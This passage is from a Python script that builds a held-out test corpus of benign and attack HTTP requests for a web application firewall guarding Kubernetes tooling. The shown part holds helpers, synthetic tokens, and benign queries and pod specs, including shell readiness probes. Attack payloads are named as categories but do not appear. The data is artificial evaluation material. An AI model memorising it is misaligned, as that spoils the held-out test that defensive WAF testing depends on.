#!/usr/bin/env python3
"""Held-out corpus: Kubernetes platform and cloud-native operations tools.

What it models
--------------
The HTTP traffic that a sidecar WAF in front of Kubernetes platform tooling
sees: Backstage (catalog, scaffolder, TechDocs, search, proxy, kubernetes
plugin), Argo CD (applications, sync, repositories and repo credentials,
ApplicationSets), Argo Workflows, Grafana (dashboards, data sources, alerting,
annotations, /api/ds/query with PromQL, LogQL, SQL and TraceQL), the
Prometheus HTTP API, Alertmanager (API and the webhooks it sends), Harbor,
Keycloak admin REST (including LDAP user federation with LDAP filters),
HashiCorp Vault (KV, auth/kubernetes, database secrets engine, PKI, ACL
policies), Rancher, Kiali, Jaeger and Tempo, Tekton EventListeners, Flux
notification-controller receivers, cert-manager ACME HTTP-01 challenges,
Kubernetes admission webhooks (AdmissionReview with full pod specs), OPA and
Gatekeeper (Rego), Kubernetes Dashboard / Headlamp / Rancher proxying the API
server, Loki push and query, OpenCost, Velero and Crossplane resources, and
in-cluster service-to-service calls using *.svc / *.svc.cluster.local names.

Benign traffic in this domain is deliberately full of things that look like
attacks to a naive WAF: shell in container commands and probes, host paths
(/var/run/docker.sock, /proc, /etc/ssl/certs), PromQL/LogQL/SQL/TraceQL, Rego,
Go templates, nunjucks `${{ }}`, JSONPath, LDAP filters, cluster-internal
URLs, base64 Secret data, kubeconfigs, RBAC rules with "*" verbs, YAML and
the several Kubernetes patch content types.

Files written
-------------
  rulesets/tests/data/platform-benign.jsonl   expect=pass
      category "benign"      (~450, ordinary operations traffic)
      category "dev-content" (exactly 50, ids contain /dev-content/:
                              code-heavy developer content - TechDocs
                              Markdown, Grafana text panels, runbook
                              annotations, workflow/task scripts; reported
                              separately)
  rulesets/tests/data/platform-attacks.jsonl  expect=detect
      categories: sqli, xss, lfi, rfi, rce, php, java, ssrf, xxe, ssti,
      nosqli, ldapi, crlf, protocol, scanner, generic (~300)

Attacks arrive through injection points that exist in these tools (Grafana
SQL built from dashboard variables, Argo Workflows / Tekton parameters,
TechDocs and plugin paths, Argo CD repo URLs and Helm value files, data source
and webhook URLs, alert templates, scaffolder values, Keycloak/Harbor LDAP
searches, ...). Admitting a privileged pod is NOT labelled an attack by
itself; attacks are injections into parameters the application interprets.

Provenance
----------
This corpus was written BLIND: without looking at Palisade's rules, rule
sources, tests or proxy code, and without running Palisade. It is held-out
data for measuring generalisation. Do NOT tune rules against it and do NOT
edit it to make the WAF pass; a miss or a false positive here is a finding.

Record shape follows /work/shared/corpora/README.md. Framing attacks that need
exact bytes use `raw_b64` (and then carry only id/set/category/expect).

Deterministic: stdlib only, random.Random with a fixed seed. Run:
    python3 scripts/corpus-platform.py
"""

import base64
import hashlib
import json
import os
import random
import sys
import uuid
from collections import Counter, defaultdict
from urllib.parse import quote, quote_plus

SEED = 0x9A115ADE  # "palisade"-ish, fixed
R = random.Random(SEED)
SET = "platform"

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.normpath(os.path.join(HERE, "..", "rulesets", "tests", "data"))
BENIGN_PATH = os.path.join(OUT_DIR, "platform-benign.jsonl")
ATTACK_PATH = os.path.join(OUT_DIR, "platform-attacks.jsonl")


# ---------------------------------------------------------------------------
# small helpers
# ---------------------------------------------------------------------------

def pick(seq):
    return R.choice(seq)


_ROT = defaultdict(int)


def rot(key, seq):
    """Deterministic round-robin over seq (starting at the first item), so every
    variant of a pool shows up in the corpus instead of a random subset."""
    v = seq[_ROT[key] % len(seq)]
    _ROT[key] += 1
    return v


def chance(p):
    return R.random() < p


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def b64u(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
LOWER_ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"


def rstr(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def rhex(n):
    return rstr(n, HEX)


def ruuid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def ts_ms():
    return 1714500000000 + R.randint(0, 86400000 * 20)


def iso_ts(offset_s=0):
    base = 1714500000 + R.randint(0, 86400 * 20) + offset_s
    # simple UTC formatting without datetime dependence on locale
    import time
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(base))


def dumps(obj, pretty=None):
    """JSON as different clients send it: compact (Go/kubectl), spaced
    (python json), or indented (humans / terraform)."""
    if pretty is None:
        pretty = R.choice(["compact", "compact", "spaced", "indent"])
    if pretty == "compact":
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    if pretty == "spaced":
        return json.dumps(obj, ensure_ascii=False)
    return json.dumps(obj, indent=2, ensure_ascii=False)


def qs(params, plus=False, safe=""):
    """Build a query string. plus=True mimics Go url.Values / form encoding
    (space -> '+'), otherwise encodeURIComponent style (%20)."""
    out = []
    for k, v in params:
        if plus:
            out.append(quote_plus(str(k), safe=safe) + "=" + quote_plus(str(v), safe=safe))
        else:
            out.append(quote(str(k), safe=safe) + "=" + quote(str(v), safe=safe))
    return "&".join(out)


def form(params):
    return qs(params, plus=True)


def enc(s, safe=""):
    return quote(s, safe=safe)


# ---------------------------------------------------------------------------
# identities, tokens, user agents, hosts
# ---------------------------------------------------------------------------

USERS = ["m.kowalski", "priya.raman", "jdoe", "sofia.garcia", "kenji.tanaka",
         "olu.adeyemi", "lea.mueller", "ahmed.haddad", "chen.wei", "nora.lind",
         "tomas.novak", "fatima.zahra", "b.okafor", "i.petrova", "svc-ci"]
DISPLAY = {"m.kowalski": "Marek Kowalski", "priya.raman": "Priya Raman",
           "jdoe": "Jane Doe", "sofia.garcia": "Sofía García",
           "kenji.tanaka": "田中 健二", "olu.adeyemi": "Olúwaseun Adéyemí",
           "lea.mueller": "Lea Müller", "ahmed.haddad": "Ahmed Haddad",
           "chen.wei": "陈伟", "nora.lind": "Nora Lind", "tomas.novak": "Tomáš Novák",
           "fatima.zahra": "Fatima Zahra", "b.okafor": "Blessing Okafor",
           "i.petrova": "Ирина Петрова", "svc-ci": "CI service"}
TEAMS = ["team-atlas", "team-orion", "team-helix", "sre", "data-platform",
         "payments", "identity", "search"]
NAMESPACES = ["payments", "checkout", "orders", "inventory", "search",
              "identity", "data-eng", "ml-serving", "notifications", "web",
              "team-atlas", "team-orion"]
APPS = ["cart-api", "ledger-svc", "orders", "inventory-sync",
        "notification-worker", "pricing-engine", "auth-gateway",
        "search-indexer", "recommendations", "billing", "fraud-scoring",
        "web-frontend", "checkout-bff", "invoice-renderer"]
CLUSTERS = ["prod-eu1", "prod-us2", "staging-eu1", "dev-shared", "edge-ap1"]
DOMAINS = ["acme.io", "platform.example.com", "corp.example.net", "internal.example.org"]

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
]
UA_HEADLAMP = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Headlamp/0.23.2 Chrome/122.0.6261.70 Electron/29.1.0 Safari/537.36"
UA_KUBECTL = ["kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
              "kubectl/v1.30.0 (darwin/arm64) kubernetes/7c48c2b",
              "kubectl/v1.28.9 (windows/amd64) kubernetes/587f5fe"]
UA_ARGOCD = ["argocd-client/v2.10.7+b060053 (linux/amd64)", "argocd-client/v2.11.0+d3f33c0 (darwin/arm64)"]
UA_GO = ["Go-http-client/1.1", "Go-http-client/2.0"]
UA_PY = ["python-requests/2.31.0", "python-requests/2.32.3", "python-httpx/0.27.0"]
UA_GRAFANA = ["Grafana/10.4.2", "Grafana/11.0.0"]
UA_ALERTMANAGER = ["Alertmanager/0.27.0", "Alertmanager/0.26.0"]
UA_PROMETHEUS = ["Prometheus/2.51.2", "Prometheus/2.52.0"]
UA_TERRAFORM = ["Terraform/1.7.5 (+https://www.terraform.io) Terraform-Plugin-SDK/2.10.1 terraform-provider-grafana/2.19.0",
                "Terraform/1.8.2 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-vault/4.2.0",
                "Terraform/1.8.2 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-harbor/3.10.10"]
UA_VAULT = ["Vault/1.15.6 (+https://www.vaultproject.io/; go1.21.8)", "vault-k8s/1.4.1",
            "Go-http-client/1.1"]
UA_KEYCLOAK_CLIENT = ["Apache-HttpClient/4.5.14 (Java/17.0.10)", "Keycloak-Admin-Client/24.0.3",
                      "Go-http-client/1.1"]
UA_GITHUB = ["GitHub-Hookshot/7f3c1a2", "GitHub-Hookshot/0d2e5b8", "GitHub-Hookshot/a91b3c4"]
UA_GITLAB = ["GitLab/16.11.1", "GitLab/17.0.0-ee"]


def browser():
    return pick(UA_BROWSERS)


def jwt(claims, alg="RS256"):
    header = {"alg": alg, "typ": "JWT", "kid": rstr(43, ALNUM + "-_")}
    sig = b64u(rbytes(256 if alg.startswith("RS") else 64))
    return b64u(json.dumps(header, separators=(",", ":"))) + "." + \
        b64u(json.dumps(claims, separators=(",", ":"))) + "." + sig


def oidc_token(user=None, realm="platform"):
    user = user or pick(USERS)
    now = 1714500000 + R.randint(0, 1000000)
    return jwt({"exp": now + 300, "iat": now, "jti": ruuid(),
                "iss": "https://sso.acme.io/realms/" + realm,
                "aud": pick(["kubernetes", "grafana", "argocd", "backstage", "account"]),
                "sub": ruuid(), "typ": "Bearer", "azp": pick(["kubernetes", "headlamp", "argocd-cli"]),
                "preferred_username": user, "email": user + "@acme.io",
                "groups": R.sample(["platform-admins", "developers", "sre", "team-atlas", "team-orion", "viewers"], 2)})


def sa_token(ns=None, sa=None):
    ns = ns or pick(NAMESPACES)
    sa = sa or pick(APPS)
    now = 1714500000 + R.randint(0, 1000000)
    return jwt({"aud": ["https://kubernetes.default.svc.cluster.local"], "exp": now + 3607,
                "iat": now, "iss": "https://kubernetes.default.svc.cluster.local",
                "kubernetes.io": {"namespace": ns, "pod": {"name": sa + "-" + rstr(10, LOWER_ALNUM)[:5], "uid": ruuid()},
                                  "serviceaccount": {"name": sa, "uid": ruuid()}},
                "nbf": now, "sub": "system:serviceaccount:%s:%s" % (ns, sa)})


def bearer(tok=None):
    return "Bearer " + (tok or oidc_token())


def vault_token():
    return "hvs." + rstr(90, ALNUM + "_-")[:24] if chance(0.3) else "hvs.CAESI" + rstr(60, ALNUM + "_-")


def grafana_sa_token():
    return "glsa_" + rstr(32) + "_" + rhex(8)


def gh_sig(body):
    return "sha256=" + hashlib.sha256((body + rstr(8)).encode()).hexdigest()


def trace_headers():
    h = []
    if chance(0.35):
        h.append(("traceparent", "00-%s-%s-01" % (rhex(32), rhex(16))))
    if chance(0.25):
        h.append(("X-Request-Id", ruuid()))
    return h


def xff():
    return "10.%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))


def ext_ip():
    return pick(["203.0.113.%d", "198.51.100.%d", "192.0.2.%d", "45.33.%d.12", "185.220.101.%d"]) % R.randint(1, 254)


def host_for(tool):
    table = {
        "backstage": ["backstage.acme.io", "portal.platform.example.com", "developer.corp.example.net",
                      "backstage.backstage.svc.cluster.local:7007"],
        "argocd": ["argocd.acme.io", "cd.platform.example.com", "argocd-server.argocd.svc", "argocd.corp.example.net"],
        "workflows": ["workflows.acme.io", "argo-server.argo.svc:2746", "argo.platform.example.com"],
        "grafana": ["grafana.acme.io", "grafana.monitoring.svc.cluster.local:3000", "observability.example.com",
                    "grafana.corp.example.net"],
        "prometheus": ["prometheus-operated.monitoring.svc:9090", "prometheus.acme.io",
                       "thanos-query.monitoring.svc.cluster.local:9090", "prometheus-k8s.monitoring.svc:9090"],
        "alertmanager": ["alertmanager-operated.monitoring.svc:9093", "alertmanager.acme.io",
                         "alertmanager-main.monitoring.svc.cluster.local:9093"],
        "harbor": ["harbor.acme.io", "registry.example.com", "harbor-core.harbor.svc"],
        "keycloak": ["sso.acme.io", "keycloak.identity.svc.cluster.local:8080", "auth.example.com"],
        "vault": ["vault.acme.io:8200", "vault.vault.svc:8200", "vault-active.vault.svc.cluster.local:8200"],
        "rancher": ["rancher.acme.io", "rancher.corp.example.net"],
        "kiali": ["kiali.acme.io", "kiali.istio-system.svc:20001"],
        "jaeger": ["jaeger.acme.io", "jaeger-query.observability.svc:16686"],
        "tempo": ["tempo-query-frontend.observability.svc:3200", "tempo.acme.io"],
        "tekton": ["el-github-listener.tekton-pipelines.svc.cluster.local:8080", "hooks.ci.acme.io",
                   "el-gitlab-listener.ci.svc:8080"],
        "tektondash": ["tekton.acme.io"],
        "flux": ["flux-webhook.acme.io", "notification-controller.flux-system.svc.cluster.local", "hooks.gitops.example.com"],
        "opa": ["opa.opa.svc.cluster.local:8181", "localhost:8181", "opa.policy.svc:8181"],
        "headlamp": ["headlamp.acme.io", "k8s.platform.example.com"],
        "dashboard": ["dashboard.acme.io", "kubernetes-dashboard.kubernetes-dashboard.svc"],
        "kubeapi": ["api.prod-eu1.k8s.acme.io:6443", "kubernetes.default.svc", "10.96.0.1:443"],
        "loki": ["loki-gateway.observability.svc", "logs.acme.io", "loki-distributor.observability.svc.cluster.local:3100"],
        "opencost": ["opencost.opencost.svc:9003", "opencost.acme.io"],
    }
    return pick(table[tool])


# ---------------------------------------------------------------------------
# record collection
# ---------------------------------------------------------------------------

class Corpus:
    def __init__(self):
        self.benign = []
        self.attacks = []
        self.counters = defaultdict(int)

    def _id(self, category, subkind):
        if category == "benign":
            prefix = "platform/benign/"
        elif category == "dev-content":
            prefix = "platform/dev-content/"
        else:
            prefix = "platform/%s/" % category
        key = prefix + subkind
        self.counters[key] += 1
        return "%s-%03d" % (key, self.counters[key])

    def add(self, category, subkind, method, uri, host, headers=(), body=None,
            ctype=None, version="HTTP/1.1"):
        expect = "pass" if category in ("benign", "dev-content") else "detect"
        hdrs = [["Host", host]]
        for name, value in headers:
            hdrs.append([name, value])
        if body is not None:
            if ctype is not None and not any(h[0].lower() == "content-type" for h in hdrs):
                hdrs.append(["Content-Type", ctype])
            hdrs = [h for h in hdrs if h[0].lower() != "content-length"]
            hdrs.append(["Content-Length", str(len(body.encode("utf-8")))])
        rec = {"id": self._id(category, subkind), "set": SET, "category": category,
               "expect": expect, "method": method, "uri": uri, "version": version,
               "headers": hdrs}
        if body is not None:
            rec["body"] = body
        (self.benign if expect == "pass" else self.attacks).append(rec)
        return rec

    def add_raw(self, category, subkind, raw):
        if isinstance(raw, str):
            raw = raw.encode("utf-8")
        rec = {"id": self._id(category, subkind), "set": SET, "category": category,
               "expect": "detect", "raw_b64": base64.b64encode(raw).decode()}
        self.attacks.append(rec)
        return rec


C = Corpus()


def B(subkind, method, uri, host, headers=(), body=None, ctype=None):
    return C.add("benign", subkind, method, uri, host, headers, body, ctype)


def D(subkind, method, uri, host, headers=(), body=None, ctype=None):
    return C.add("dev-content", subkind, method, uri, host, headers, body, ctype)


def A(category, subkind, method, uri, host, headers=(), body=None, ctype=None):
    return C.add(category, subkind, method, uri, host, headers, body, ctype)


def std_headers(ua, auth=None, accept="application/json", extra=()):
    h = [("User-Agent", ua)]
    if accept:
        h.append(("Accept", accept))
    if auth:
        h.append(("Authorization", auth))
    h.extend(extra)
    h.extend(trace_headers())
    return h


def browser_headers(accept="application/json, text/plain, */*", cookie=None, extra=(), origin=None):
    h = [("User-Agent", browser()), ("Accept", accept),
         ("Accept-Language", pick(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.7", "ja,en-US;q=0.8", "fr-FR,fr;q=0.9"])),
         ("Accept-Encoding", "gzip, deflate, br")]
    if origin:
        h.append(("Origin", origin))
    if cookie:
        h.append(("Cookie", cookie))
    h.extend(extra)
    return h


# ---------------------------------------------------------------------------
# shared domain content: query languages, pod specs, templates
# ---------------------------------------------------------------------------

def promql():
    ns = pick(NAMESPACES)
    app = pick(APPS)
    return rot("promql", [
        'sum by (namespace) (rate(container_cpu_usage_seconds_total{namespace=~"%s|%s", container!="", image!=""}[5m]))' % (ns, pick(NAMESPACES)),
        'histogram_quantile(0.99, sum by (le, route) (rate(http_server_request_duration_seconds_bucket{service="%s", namespace="%s"}[$__rate_interval])))' % (app, ns),
        'sum(rate(http_requests_total{job="%s",code=~"5.."}[5m])) / sum(rate(http_requests_total{job="%s"}[5m])) > 0.05' % (app, app),
        'kube_deployment_status_replicas_available{namespace="%s"} / kube_deployment_spec_replicas{namespace="%s"} < 1' % (ns, ns),
        'topk(10, sum by (pod) (container_memory_working_set_bytes{namespace="%s", container!="POD"}))' % ns,
        'increase(kube_pod_container_status_restarts_total{namespace="%s"}[1h]) > 3' % ns,
        'absent(up{job="kube-state-metrics"} == 1)',
        '(node_filesystem_avail_bytes{mountpoint="/",fstype!="rootfs"} / node_filesystem_size_bytes{mountpoint="/",fstype!="rootfs"}) * 100 < 10',
        'sum without (instance) (rate(node_network_receive_bytes_total{device!~"lo|veth.*|cali.*"}[5m]))',
        'max_over_time(pg_stat_activity_count{datname="%s", state="active"}[10m])' % app.replace("-", "_"),
        'label_replace(up{job=~"kubernetes-.*"}, "node", "$1", "instance", "([^:]+):.*")',
        'rate(nginx_ingress_controller_requests{ingress="%s", status=~"4..|5.."}[2m]) or vector(0)' % app,
        'avg_over_time(probe_success{instance="https://%s.%s.svc.cluster.local/healthz"}[30m:1m])' % (app, ns),
        'sum by (namespace, pod) (kube_pod_status_phase{phase=~"Pending|Unknown|Failed"}) > 0',
        'kube_pod_container_resource_limits{resource="memory", namespace="%s"} * on (namespace, pod) group_left (node) kube_pod_info' % ns,
        'predict_linear(kubelet_volume_stats_available_bytes{namespace="%s"}[6h], 4 * 3600) < 0' % ns,
        'count by (__name__) ({__name__=~"grpc_server_.*", namespace="%s"})' % ns,
        'sum(rate(istio_requests_total{destination_workload="%s", response_code!~"2..|3.."}[5m])) unless on() (hour() >= 2 < 4)' % app,
        'rate(http_requests_total{handler="/api/v1/orders/{id}"}[5m] offset 1w)',
        'sum(increase(argocd_app_sync_total{phase!="Succeeded", project="%s"}[1d]))' % pick(TEAMS),
        'certmanager_certificate_expiration_timestamp_seconds - time() < 7 * 24 * 3600',
        'vault_core_unsealed == 0 or on() absent(vault_core_unsealed)',
        'sum by (le) (rate(apiserver_request_duration_seconds_bucket{verb!~"WATCH|CONNECT", resource="secrets"}[5m]))',
        'up{job="%s"} @ end()' % app,
        'sort_desc(sum by (user_agent) (rate(apiserver_request_total{code=~"4.."}[15m])))',
        'quantile_over_time(0.95, loki_request_duration_seconds{route="loki_api_v1_push"}[1h])',
    ])


def logql():
    ns = pick(NAMESPACES)
    app = pick(APPS)
    return rot("logql", [
        '{namespace="%s", app="%s"} |= "error" != "healthz"' % (ns, app),
        '{namespace="%s"} | json | level="error" | line_format "{{.ts}} {{.level}} {{.msg}}"' % ns,
        'sum by (status) (count_over_time({job="ingress-nginx/controller"} | pattern `<ip> - - [<_>] "<method> <uri> <_>" <status> <_>` [5m]))',
        '{app="%s"} |~ "(?i)(timeout|deadline exceeded|connection refused)"' % app,
        'rate({namespace="%s", container="main"} |= "panic:" [10m])' % ns,
        '{cluster="%s", namespace="kube-system", app="coredns"} |= "SERVFAIL" | regexp `(?P<qname>[a-z0-9.-]+)\\. (?P<qtype>[A-Z]+)`' % pick(CLUSTERS),
        'topk(5, sum by (path) (rate({app="%s"} | logfmt | duration > 500ms [5m])))' % app,
        '{namespace="%s"} |= "SELECT" |= "slow query" | logfmt | query_time > 2' % ns,
        '{container="vault"} |= "permission denied" | json | line_format `{{ .request.path }} {{ .auth.display_name }}`',
        'sum(count_over_time({namespace="argocd"} |= "ComparisonError" [1h])) by (application)',
    ])


def sql_query():
    env = pick(["prod", "staging"])
    return rot("sql_query", [
        "SELECT $__timeGroupAlias(created_at, '5m'), count(*) AS \"orders\" FROM orders WHERE $__timeFilter(created_at) AND status IN ($status) GROUP BY 1 ORDER BY 1",
        "SELECT UNIX_TIMESTAMP(ts) AS time_sec, value, metric AS metric FROM host_metrics WHERE $__unixEpochFilter(ts) AND host = '$host' ORDER BY ts ASC",
        "SELECT\n  $__timeGroup(\"time\", $__interval),\n  avg(latency_ms) AS p50\nFROM request_log\nWHERE $__timeFilter(\"time\") AND service = '${service}' -- only user-facing routes\n  AND route NOT LIKE '/internal/%'\nGROUP BY 1\nORDER BY 1",
        "WITH daily AS (\n  SELECT date_trunc('day', created_at) AS day, tenant_id, sum(amount_cents) / 100.0 AS revenue\n  FROM payments WHERE $__timeFilter(created_at) GROUP BY 1, 2\n)\nSELECT day AS time, sum(revenue) AS revenue FROM daily GROUP BY day ORDER BY day",
        "SELECT hostname AS __text, id AS __value FROM hosts WHERE env = '%s' ORDER BY hostname" % env,
        "SELECT t.name AS metric, count(*) FROM deployments d JOIN teams t ON t.id = d.team_id WHERE $__timeFilter(d.finished_at) AND d.result = 'failed' GROUP BY t.name",
        "SELECT now() AS time, 'ok' AS status UNION ALL SELECT max(checked_at), 'last_check' FROM health_checks",
        "SELECT CASE WHEN status_code >= 500 THEN '5xx' WHEN status_code >= 400 THEN '4xx' ELSE 'ok' END AS metric, count(*) AS value, $__timeGroupAlias(ts, 1m) FROM access_log WHERE $__timeFilter(ts) GROUP BY 1, 3",
        "SELECT TOP 100 job_name, last_run_outcome, last_run_duration FROM msdb.dbo.sysjobservers s JOIN msdb.dbo.sysjobs j ON j.job_id = s.job_id ORDER BY last_run_date DESC",
        "SELECT toStartOfMinute(timestamp) AS t, countIf(status >= 500) AS errors, count() AS total FROM logs.requests WHERE timestamp >= toDateTime($__from / 1000) AND timestamp <= toDateTime($__to / 1000) GROUP BY t ORDER BY t",
        "SELECT datname, numbackends, xact_commit, xact_rollback, blks_read FROM pg_stat_database WHERE datname NOT IN ('template0', 'template1')",
        "SELECT relname AS table, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE n_dead_tup > 10000 ORDER BY n_dead_tup DESC LIMIT 20",
        "SELECT schemaname || '.' || relname AS metric, pg_total_relation_size(relid) AS value FROM pg_catalog.pg_statio_user_tables ORDER BY 2 DESC LIMIT 10",
        "SELECT $__time(created_at), amount FROM refunds WHERE merchant_id IN (${merchant:csv}) AND $__timeFilter(created_at) AND reason <> 'test'",
    ])


def traceql():
    app = pick(APPS)
    return rot("traceql", [
        '{ resource.service.name = "%s" && span.http.status_code >= 500 }' % app,
        '{ span.db.system = "postgresql" && duration > 200ms } | select(span.db.statement)',
        '{ resource.k8s.namespace.name = "%s" } >> { status = error }' % pick(NAMESPACES),
        '{ name =~ "GET /api/v1/.*" && span.http.route != "/healthz" } | count() > 3',
    ])


# --- pod spec building blocks ------------------------------------------------

def image(app=None):
    app = app or pick(APPS)
    return pick(["harbor.acme.io/%s/%s:%s" % (pick(TEAMS), app, pick(["1.4.2", "2.0.0-rc.1", "sha-" + rhex(7)])),
                 "registry.example.com/platform/%s@sha256:%s" % (app, rhex(64)),
                 "ghcr.io/acme/%s:v%d.%d.%d" % (app, R.randint(0, 3), R.randint(0, 20), R.randint(0, 9))])


def init_wait_for_db(ns):
    db = pick(["postgres", "cart-db", "orders-pg-rw", "mysql-primary", "redis-master"])
    port = {"postgres": 5432, "cart-db": 5432, "orders-pg-rw": 5432, "mysql-primary": 3306, "redis-master": 6379}[db]
    cmd = pick([
        ["sh", "-c", "until nc -z %s.%s.svc.cluster.local %d; do echo waiting for %s; sleep 2; done" % (db, ns, port, db)],
        ["/bin/sh", "-c", "until pg_isready -h %s -p %d -U $(POSTGRES_USER); do sleep 1; done" % (db, port)],
        ["sh", "-c", "for i in $(seq 1 60); do nslookup %s.%s.svc && exit 0; sleep 1; done; exit 1" % (db, ns)],
        ["bash", "-ec", "while ! timeout 1 bash -c \"echo > /dev/tcp/%s/%d\"; do sleep 1; done" % (db, port)],
    ])
    return {"name": "wait-for-" + db, "image": pick(["busybox:1.36", "postgres:16-alpine", "bitnami/os-shell:12"]),
            "command": cmd, "resources": {"requests": {"cpu": "10m", "memory": "16Mi"}}}


def migrate_container():
    return pick([
        {"name": "migrate", "image": "flyway/flyway:10.11", "args": ["-url=jdbc:postgresql://orders-pg-rw:5432/orders", "-user=$(DB_USER)", "-password=$(DB_PASSWORD)", "-locations=filesystem:/flyway/sql", "migrate"],
         "volumeMounts": [{"name": "migrations", "mountPath": "/flyway/sql"}]},
        {"name": "migrate", "image": image(), "command": ["/bin/sh", "-c"],
         "args": ["python manage.py migrate --noinput && python manage.py collectstatic --noinput --clear"]},
        {"name": "schema", "image": "migrate/migrate:v4.17.1",
         "args": ["-path", "/migrations", "-database", "postgres://$(DB_USER):$(DB_PASSWORD)@cart-db:5432/cart?sslmode=disable", "up"]},
    ])


def env_block(ns, app):
    env = [
        {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
        {"name": "POD_NAMESPACE", "valueFrom": {"fieldRef": {"fieldPath": "metadata.namespace"}}},
        {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": app + "-db", "key": "password"}}},
        {"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://otel-collector.observability.svc.cluster.local:4317"},
        {"name": "DATABASE_URL", "value": "postgres://%s:$(DB_PASSWORD)@%s-pg-rw.%s.svc:5432/%s?sslmode=require" % (app.replace("-", "_"), app, ns, app.replace("-", "_"))},
        {"name": "LISTEN_ADDR", "value": "$(POD_IP):8080"},
    ]
    if chance(0.5):
        env.append({"name": "JAVA_TOOL_OPTIONS", "value": "-XX:MaxRAMPercentage=75.0 -Djava.security.egd=file:/dev/./urandom -Dlog4j2.formatMsgNoLookups=true"})
    if chance(0.4):
        env.append({"name": "SPRING_PROFILES_ACTIVE", "value": "k8s,prod"})
    if chance(0.4):
        env.append({"name": "REDIS_URL", "value": "redis://:$(REDIS_PASSWORD)@redis-master.%s.svc.cluster.local:6379/0" % ns})
    R.shuffle(env)
    return env


def app_container(ns, app):
    c = {"name": app, "image": image(app), "imagePullPolicy": "IfNotPresent",
         "ports": [{"containerPort": 8080, "name": "http", "protocol": "TCP"}],
         "env": env_block(ns, app),
         "resources": {"requests": {"cpu": "%dm" % R.choice([50, 100, 250]), "memory": "%dMi" % R.choice([128, 256, 512])},
                       "limits": {"memory": "%dMi" % R.choice([512, 1024])}},
         "volumeMounts": [{"name": "kube-api-access-" + rstr(5, LOWER_ALNUM), "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": True}],
         "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True,
                             "capabilities": {"drop": ["ALL"]}}}
    probes = pick([
        {"livenessProbe": {"httpGet": {"path": "/healthz", "port": "http"}, "periodSeconds": 10},
         "readinessProbe": {"httpGet": {"path": "/readyz", "port": 8080}, "initialDelaySeconds": 5}},
        {"livenessProbe": {"exec": {"command": ["sh", "-c", "redis-cli -a \"$REDIS_PASSWORD\" ping | grep -q PONG"]}}},
        {"readinessProbe": {"exec": {"command": ["/bin/grpc_health_probe", "-addr=:9090"]}}},
        {"livenessProbe": {"exec": {"command": ["/bin/sh", "-c", "test $(find /tmp/heartbeat -mmin -1 | wc -l) -eq 1"]}}},
    ])
    c.update(probes)
    if chance(0.4):
        c["lifecycle"] = {"preStop": {"exec": {"command": pick([["/bin/sh", "-c", "sleep 15 && nginx -s quit"],
                                                              ["sh", "-c", "kill -TERM 1; while kill -0 1 2>/dev/null; do sleep 1; done"],
                                                              ["/bin/sleep", "20"]])}}}
    if chance(0.3):
        c["args"] = pick([["--config=/etc/app/config.yaml", "--log-level=info"],
                          ["-jar", "/app/app.jar", "--spring.config.additional-location=file:/config/"],
                          ["gunicorn", "app:create_app()", "--bind", "0.0.0.0:8080", "--workers", "4"]])
    return c


def special_pod_spec(ns):
    """Privileged-looking but normal system workloads."""
    kind = rot("special", ["node-exporter", "fluent-bit", "dind", "falco", "cadvisor", "csi", "istio"])
    if kind == "node-exporter":
        return kind, {"hostNetwork": True, "hostPID": True, "containers": [{
            "name": "node-exporter", "image": "quay.io/prometheus/node-exporter:v1.8.0",
            "args": ["--path.procfs=/host/proc", "--path.sysfs=/host/sys", "--path.rootfs=/host/root",
                     "--collector.filesystem.mount-points-exclude=^/(dev|proc|sys|var/lib/docker/.+|var/lib/kubelet/.+)($|/)",
                     "--collector.netclass.ignored-devices=^(veth.*|[a-f0-9]{15})$"],
            "volumeMounts": [{"name": "proc", "mountPath": "/host/proc", "readOnly": True},
                             {"name": "sys", "mountPath": "/host/sys", "readOnly": True},
                             {"name": "root", "mountPath": "/host/root", "mountPropagation": "HostToContainer", "readOnly": True}]}],
            "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}}, {"name": "sys", "hostPath": {"path": "/sys"}},
                        {"name": "root", "hostPath": {"path": "/"}}], "tolerations": [{"operator": "Exists"}]}
    if kind == "fluent-bit":
